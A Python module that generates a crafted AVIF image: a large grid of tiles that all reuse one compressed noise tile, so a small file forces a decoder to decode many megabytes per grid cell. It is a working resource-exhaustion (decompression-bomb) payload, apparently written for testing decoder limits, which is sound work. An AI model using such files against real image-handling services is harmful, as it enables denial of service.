"""An AVIF that takes long: a grid of many tiles, all of which are the same bytes of the file."""

from __future__ import annotations

import re
import struct
from io import BytesIO

import numpy as np
from PIL import Image

TILE = 1024  # px a side
_KEPT = (b"av1C", b"pixi", b"ispe", b"colr")  # properties of a tile


def avif_grid(columns: int, rows: int) -> bytes:
    """Attacks limits on bytes: a tile of 4 MB of noise, decoded for each place of the grid."""
    noise = np.random.default_rng(0).integers(0, 256, (TILE, TILE, 3), np.uint8)
    stream = BytesIO()
    Image.fromarray(noise).save(stream, "AVIF", quality=100, speed=8, subsampling="4:4:4")
    tile = stream.getvalue()
    picture = tile[tile.index(b"mdat") + 4 :]
    width, height, count = TILE * columns, TILE * rows, columns * rows
    kept = [found for kind in _KEPT if (found := _whole(tile, kind))]
    places = {one[4:8]: number for number, one in enumerate(kept, start=1)}
    kept.append(_box(b"ispe", struct.pack(">III", 0, width, height)))
    of_grid = [places[kind] for kind in (b"pixi", b"colr") if kind in places] + [len(kept)]
    of_tile = [place | 0x80 * (kind == b"av1C") for kind, place in places.items()]
    told = [_box(b"infe", struct.pack(">IHH4sx", 2 << 24, 1, 0, b"grid"))]
    uses = [struct.pack(">HB", 1, len(of_grid)) + bytes(of_grid)]
    for item in range(2, count + 2):
        told.append(_box(b"infe", struct.pack(">IHH4sx", 2 << 24 | 1, item, 0, b"av01")))
        uses.append(struct.pack(">HB", item, len(of_tile)) + bytes(of_tile))
    layout = struct.pack(">BBBBII", 0, 1, rows - 1, columns - 1, width, height)
    refers = struct.pack(f">HH{count}H", 1, count, *range(2, count + 2))

    def meta(start: int) -> bytes:
        lies = [struct.pack(">HHHHII", 1, 1, 0, 1, 0, len(layout))]
        for item in range(2, count + 2):
            lies.append(struct.pack(">HHHHII", item, 0, 0, 1, start, len(picture)))
        boxes = (
            _box(b"hdlr", struct.pack(">II4s13x", 0, 0, b"pict")),
            _box(b"pitm", struct.pack(">IH", 0, 1)),
            _box(b"iinf", struct.pack(">IH", 0, count + 1), *told),
            _box(b"iref", bytes(4), _box(b"dimg", refers)),
            _box(
                b"iprp",
                _box(b"ipco", *kept),
                _box(b"ipma", struct.pack(">II", 0, count + 1), *uses),
            ),
            _box(b"idat", layout),
            _box(b"iloc", b"\1\0\0\0\x44\0", struct.pack(">H", count + 1), *lies),
        )
        return _box(b"meta", bytes(4), *boxes)

    head = _box(b"ftyp", b"avif", bytes(4), b"avifmif1miafMA1B")
    start = len(head) + len(meta(0)) + 8
    return head + meta(start) + _box(b"mdat", picture)


def _box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I4s", len(body) + 8, kind) + body


def _whole(data: bytes, kind: bytes) -> bytes:
    """The first box of a kind, wherever it lies; empty if there is none."""
    found = re.search(rb"(?s)....(?=" + kind + rb")", data)
    return data[found.start() :][: int.from_bytes(found[0], "big")] if found else b""
